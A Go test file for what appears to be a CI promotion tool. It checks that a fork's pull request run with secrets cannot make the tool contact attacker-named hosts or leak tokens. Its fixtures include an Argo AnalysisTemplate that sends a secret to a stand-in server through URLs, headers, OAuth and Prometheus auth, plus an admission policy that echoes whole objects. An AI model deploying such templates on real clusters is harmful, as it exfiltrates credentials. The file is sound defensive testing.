package main

import (
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// stealing is a template that sends each secret that it can name to a host of its
// own.
const stealing = `
apiVersion: argoproj.io/v1alpha1
kind: AnalysisTemplate
metadata: {name: steal}
spec:
  args: [{name: token, valueFrom: {secretKeyRef: {name: api, key: token}}}]
  metrics:
    - name: web
      provider: {web: {url: "http://SERVER/{{args.token}}", headers: [{key: Authorization, value: "Bearer {{args.token}}"}]}}
    - name: token
      provider: {web: {url: "http://SERVER", authentication: {oauth2: {tokenUrl: "http://SERVER", clientId: x, clientSecret: "{{args.token}}"}}}}
    - name: query
      successCondition: result[0] < 1
      provider: {prometheus: {address: "http://SERVER", query: "{{args.token}}", authentication: {basicAuth: {username: x, password: "{{args.token}}"}}}}
`

// stealingPolicy is one whose message quotes what is no business of it.
const stealingPolicy = `
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata: {name: steal}
spec:
  matchConstraints: {resourceRules: [{apiGroups: ["*"], apiVersions: ["*"], operations: ["*"], resources: ["*"]}]}
  validations: [{expression: "false", messageExpression: "string(object)"}]
`

// TestForkIsAskedNothing has a fork's pull request choose templates, policies and
// freezes in a workflow that has all secrets, as one for pull_request_target may.
// What looks at them sends nothing to the hosts that they name, nor a secret to
// anybody.
func TestForkIsAskedNothing(t *testing.T) {
	outside := newOutside(t)
	w := worldOf(t)
	metrics := httptest.NewServer(&gatewayMetrics{candidate: users{rate: 200}, old: users{rate: 400}})
	t.Cleanup(metrics.Close)
	checkout := w.fork(t, hostileTree{files: map[string]string{
		"analysis/steal.yaml": strings.ReplaceAll(stealing, "SERVER", outside.host),
		"policies/steal.yaml": stealingPolicy,
		"knative-promote.yaml": "version: 1\npath: apps/{service}/overlays/{environment}\nenvironments: {production: {argocd-server: '" + outside.host +
			"', application: the-app, prometheus: 'http://" + outside.host + "'}}\n",
		".promote/windows.yaml": "stop: {reason: 'http://" + outside.host + "'}",
		w.path + "/more.yaml":   "kind: ConfigMap\napiVersion: v1\nmetadata: {name: x}\n",
		w.path + "/kustomization.yaml": "namespace: production\nresources: [../../base, more.yaml]\n" +
			"images: [{name: ghcr.io/acme/product-import, newTag: v1.0.0}]\n",
	}})
	event := filepath.Join(w.dir, "event.json")
	if err := os.WriteFile(event, []byte(forkEvent), 0o600); err != nil {
		t.Fatal(err)
	}
	with := slices.Concat(w.vars, outside.environment(), []string{
		"HOME=" + w.dir, "RUNNER_DEBUG=1", "GITHUB_WORKSPACE=" + checkout, "GITHUB_EVENT_NAME=pull_request_target", "GITHUB_EVENT_PATH=" + event,
		"INPUT_POLICIES=policies/*.yaml", "INPUT_POD_SECURITY=restricted",
		"INPUT_ANALYSIS=analysis/steal.yaml", "INPUT_ANALYSIS-SECRETS=api/token=" + gateSecrets["api/token"],
		"INPUT_SLO=success>=99% from=kourier", "INPUT_PROMETHEUS=" + metrics.URL, "INPUT_PROMETHEUS-HEADERS=Authorization: Bearer " + prometheusToken,
	})
	const notBelieved = "argocd-server, prometheus: knative-promote.yaml of the checkout says it, which whoever opened a pull request may have written, so nothing is asked there"
	for _, run := range []struct {
		command string
		inputs  []string
		says    []string
	}{
		{"diff", []string{"INPUT_REPOSITORY=" + w.servers.Repository}, []string{"policy steal denies Service product-import", ".promote/windows.yaml: added: the line is stopped"}},
		{"check", []string{"INPUT_REPOSITORY="}, []string{"error[policy-denied]", "warning[frozen]", "the windows in .promote/windows.yaml"}},
		{"check", []string{"INPUT_REPOSITORY=", "INPUT_ARGOCD-SERVER=", "INPUT_ARGOCD_SERVER=", "INPUT_PROMETHEUS="},
			[]string{notBelieved}},
		{"check", []string{"INPUT_REPOSITORY=", "INPUT_ARGOCD-SERVER=", "INPUT_ARGOCD_SERVER=", "INPUT_PROMETHEUS=", "GITHUB_EVENT_NAME=workflow_dispatch", "GITHUB_EVENT_PATH="},
			[]string{notBelieved}}, // which has checked out what somebody has asked for
	} {
		p := w.process(exec.Command("knative-promote-crashing", run.command))
		p.command.Dir, p.command.Env = checkout, slices.Concat(with, p.files(), run.inputs)
		if err := w.start(p); err != nil {
			t.Fatal(err)
		}
		if !p.endsInTime() || p.exit() != "13" {
			t.Errorf("%s ended with %s:\n%s", run.command, p.exit(), p.out.String())
		}
		for _, text := range run.says {
			if !strings.Contains(p.out.String(), text) {
				t.Errorf("%s does not say %q:\n%s", run.command, text, p.out.String())
			}
		}
		outside.unused(t)
	}
	if err := w.hidesParts(); err != nil {
		t.Error(err)
	}
}
